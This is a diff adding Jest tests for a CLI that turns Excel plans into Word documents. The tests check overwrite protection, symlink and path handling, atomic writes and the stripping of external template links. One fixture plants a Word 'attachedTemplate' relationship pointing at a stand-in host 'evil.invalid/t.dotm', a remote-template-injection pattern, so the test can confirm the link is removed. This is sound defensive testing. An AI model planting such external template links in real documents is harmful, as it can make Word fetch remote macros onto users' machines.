@@ -293,3 +293,90 @@ describe("the pane shares the reader: the same sentence from the FileHost", () =
     }
   });
 });
+
+describe("nothing overwritten", () => {
+  function copySample(name: string): string {
+    const file = path.join(dir, name);
+    fs.copyFileSync(SAMPLE, file);
+    return file;
+  }
+
+  test("ctcl word X.xlsx -o X.xlsx: refused, the workbook untouched", async () => {
+    const file = copySample("X.xlsx");
+    const before = fs.readFileSync(file);
+    const r = await run(["word", file, "-o", file]);
+    expect(r.code).toBe(2);
+    expect(r.err.trim()).toBe(`Không ghi đè "${file}": đó chính là tệp Excel cần đọc. Hãy chọn tên khác cho tệp Word, ví dụ -o ke-hoach.docx.`);
+    expect(fs.readFileSync(file).equals(before)).toBe(true);
+  });
+
+  test("the same file by another path (a symbolic link, ./ and ..) is still the same file", async () => {
+    const file = copySample("Y.docx"); // a workbook named .docx
+    const link = path.join(dir, "lien-ket.docx");
+    fs.symlinkSync(file, link);
+    for (const out of [link, path.join(dir, ".", "..", path.basename(dir), "Y.docx")]) {
+      const r = await run(["word", file, "-o", out]);
+      expect(r.code).toBe(2);
+      expect(r.err).toMatch(/đó chính là tệp Excel cần đọc/);
+    }
+    expect(fs.readFileSync(file).equals(fs.readFileSync(SAMPLE))).toBe(true);
+  });
+
+  test("--template T -o T: refused, the template untouched", async () => {
+    const plan = copySample("Z.xlsx");
+    const template = path.join(dir, "mau.docx");
+    fs.copyFileSync(path.join(__dirname, "..", "..", "examples", "templates", "mau-tieu-de-truong.docx"), template);
+    const before = fs.readFileSync(template);
+    const r = await run(["word", plan, "--template", template, "-o", template]);
+    expect(r.code).toBe(2);
+    expect(r.err).toMatch(/^Không ghi đè ".*mau\.docx": đó chính là tệp mẫu Word\./);
+    expect(fs.readFileSync(template).equals(before)).toBe(true);
+  });
+
+  test("an output that is not .docx is refused", async () => {
+    const plan = copySample("W.xlsx");
+    const out = path.join(dir, "ke-hoach.xlsx");
+    const r = await run(["word", plan, "-o", out]);
+    expect(r.code).toBe(2);
+    expect(r.err.trim()).toBe(`Tệp cần ghi "${out}" phải có đuôi .docx (văn bản Word). Hãy đặt tên như -o ke-hoach.docx.`);
+    expect(fs.existsSync(out)).toBe(false);
+  });
+
+  test("written beside the target then renamed: a failed write (disk full) leaves the previous file, and no temporary file", async () => {
+    const plan = copySample("V.xlsx");
+    const out = path.join(dir, "ra", "ke-hoach.docx");
+    expect((await run(["word", plan, "-o", out])).code).toBe(0);
+    const first = fs.readFileSync(out);
+    const full = Object.assign(new Error("ENOSPC: no space left on device"), { code: "ENOSPC" });
+    const write = jest.spyOn(fs.promises, "writeFile").mockImplementation(async (file) => {
+      fs.writeFileSync(String(file), "nửa tệp");
+      throw full;
+    });
+    try {
+      const r = await run(["word", plan, "-o", out]);
+      expect(r.code).toBe(2);
+      expect(r.err).toMatch(/^Không ghi được tệp/);
+      expect(write).toHaveBeenCalled();
+      expect(String(write.mock.calls[0][0])).not.toBe(out);
+    } finally {
+      write.mockRestore();
+    }
+    expect(fs.readFileSync(out).equals(first)).toBe(true);
+    expect(fs.readdirSync(path.dirname(out))).toEqual(["ke-hoach.docx"]);
+  });
+
+  test("a template's dropped external links are named on stderr, the document still written", async () => {
+    const PizZip = (await import("pizzip")).default;
+    const zip = new PizZip(fs.readFileSync(path.join(__dirname, "..", "..", "examples", "templates", "mau-tieu-de-truong.docx")));
+    zip.file(
+      "word/_rels/settings.xml.rels",
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.invalid/t.dotm" TargetMode="External"/></Relationships>',
+    );
+    const template = save("mau-ngoai.docx", zip.generate({ type: "uint8array" }) as Uint8Array);
+    const out = path.join(dir, "ngoai.docx");
+    const r = await run(["word", SAMPLE, "--template", template, "-o", out]);
+    expect(r.code).toBe(0);
+    expect(r.err.trim()).toBe("Lưu ý: mẫu Word có liên kết ra ngoài (http://evil.invalid/t.dotm); các liên kết này đã được bỏ khỏi văn bản tạo ra.");
+    expect(fs.readFileSync(out).includes("evil.invalid")).toBe(false);
+  });
+});
